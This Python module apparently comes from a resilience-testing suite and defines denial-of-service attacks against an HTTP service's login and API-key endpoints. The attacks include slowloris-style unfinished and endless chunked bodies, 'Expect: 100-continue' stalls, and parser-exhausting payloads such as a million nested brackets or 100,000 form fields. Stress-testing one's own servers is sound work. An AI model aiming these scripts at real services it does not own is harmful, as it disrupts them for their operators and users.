"""Bodies that are large, unfinished or expensive to decode."""

import asyncio
from collections.abc import Callable

from attacks import attack, variant
from load import Target, all_of, exchanges, hold

JUST_BELOW_10_MIB = 10 * (1 << 20) - 1
FORM = ("Content-Type", "application/x-www-form-urlencoded")
JSON = ("Content-Type", "application/json")


@variant("c", "unfinished_bodies_of_a_user", "60 bodies of almost 10 MiB of an ordinary user", "/api-keys", lambda target: target.user.token)
@variant(
    "c",
    "unfinished_bodies_with_a_wrong_credential",
    "60 bodies of almost 10 MiB with a session token that does not exist",
    "/api-keys",
    lambda _: "x" * 43,
)
@variant("c", "unfinished_logins", "60 bodies of almost 10 MiB to the login", "/auth/login")
@variant(
    "c",
    "unfinished_bodies_to_an_unknown_path",
    "60 bodies of almost 10 MiB to a path that does not exist",
    "/unknown",
)
@variant(
    "c",
    "unfinished_bodies_without_a_credential",
    "60 bodies of almost 10 MiB to an operation that needs a credential",
    "/api-keys",
)
async def unfinished(target: Target, path: str, token: Callable[[Target], str | None] = lambda _: None) -> None:
    """Bodies of 10 MiB less one byte whose last byte never comes."""
    head = target.request("POST", path, JSON, ("Content-Length", str(JUST_BELOW_10_MIB + 1)), token=token(target))
    await hold(target, head + b" " * JUST_BELOW_10_MIB, 60, interval=3_600)


@attack("c")
async def unfinished_small_logins(target: Target) -> None:
    """300 logins of 1 MiB less one byte"""
    size = 1 << 20
    head = target.request("POST", "/auth/login", JSON, ("Content-Length", str(size)))
    await hold(target, head + b" " * (size - 1), 300, interval=3_600)


@attack("c")
async def bodies_of_reads(target: Target) -> None:
    """60 bodies of almost 10 MiB to an operation that takes none"""
    head = target.request("GET", "/server/ping", ("Content-Length", str(JUST_BELOW_10_MIB + 1)))
    await hold(target, head + b" " * JUST_BELOW_10_MIB, 60, interval=3_600)


@attack("c")
async def chunks_without_end(target: Target) -> None:
    """60 chunked bodies without end to an operation that needs a credential"""
    head = target.request("POST", "/api-keys", JSON, ("Transfer-Encoding", "chunked"))
    chunk = b"10000\r\n" + b" " * 65_536 + b"\r\n"

    async def one(_: int) -> None:
        connection = await target.connect()
        reader = asyncio.create_task(connection.drain())
        try:
            await connection.send(head)
            while not reader.done():
                await connection.send(chunk)
        finally:
            reader.cancel()
            connection.close()

    await all_of(60, one)


@attack("c")
async def chunk_extensions(target: Target) -> None:
    """chunks of one byte with long extensions"""
    head = target.request("POST", "/auth/login", JSON, ("Transfer-Encoding", "chunked"))
    body = (b"1;" + b"x" * 1_000 + b"\r\n \r\n") * 200
    await hold(target, head + body, 32, drip=body, interval=0.05)


@attack("c")
async def expectations(target: Target) -> None:
    """500 logins that wait for 100 Continue and send no body"""
    head = target.request("POST", "/auth/login", JSON, ("Content-Length", "100"), ("Expect", "100-continue"))
    await hold(target, head, 500, interval=3_600)


def login(target: Target, body: bytes, *headers: tuple[str, str]) -> bytes:
    return target.request("POST", "/auth/login", *(headers or (JSON,)), body=body)


def multipart() -> bytes:
    return b'--b\r\nContent-Disposition: form-data; name="f"\r\n\r\n1\r\n' * 50_000 + b"--b--\r\n"


def sparse_list() -> bytes:
    return b"&".join(b"a[%d]=1" % (number * 97 % 100_003) for number in range(50_000))


@variant(
    "c",
    "many_parts",
    "login with multipart/form-data of 50,000 parts",
    multipart,
    ("Content-Type", "multipart/form-data; boundary=b"),
)
@variant("c", "sparse_form_lists", "login with form fields whose list indexes are far apart", sparse_list, FORM)
@variant(
    "c", "deeply_nested_forms", "login with form fields nested 20,000 deep", lambda: b"a" + b"[b]" * 20_000 + b"=1", FORM
)
@variant(
    "c",
    "many_form_fields",
    "login with a form of 100,000 fields",
    lambda: b"&".join(b"f%d=1" % number for number in range(100_000)),
    FORM,
)
@variant(
    "c",
    "escaped_json",
    "login with a text of 2 MB in which every character is escaped",
    lambda: b'{"email":"' + b"\\u0041" * 330_000 + b'"}',
)
@variant(
    "c",
    "many_json_names",
    "login with 100,000 properties",
    lambda: b"{" + b",".join(b'"%d":0' % number for number in range(100_000)) + b"}",
)
@variant("c", "many_json_values", "login with a million numbers", lambda: b'{"x":[' + b"0," * 999_999 + b"0]}")
@variant("c", "deeply_nested_json", "login with a million opening brackets", lambda: b"[" * 1_000_000)
async def expensive_bodies(target: Target, body: Callable[[], bytes], *headers: tuple[str, str]) -> None:
    request = login(target, body(), *headers)
    await exchanges(target, lambda: request, connections=8)


@attack("c")
async def other_charsets(target: Target) -> None:
    """login with 2 MB in UTF-16, GB18030 and ISO-2022-JP"""
    names = ["utf-16", "gb18030", "iso-2022-jp"]
    body = b"\x81\x30\x81\x30" * 500_000
    requests = [login(target, body, ("Content-Type", f"application/json; charset={name}")) for name in names]
    await exchanges(target, lambda: requests[0] if requests.append(requests.pop(0)) is None else b"", connections=8)
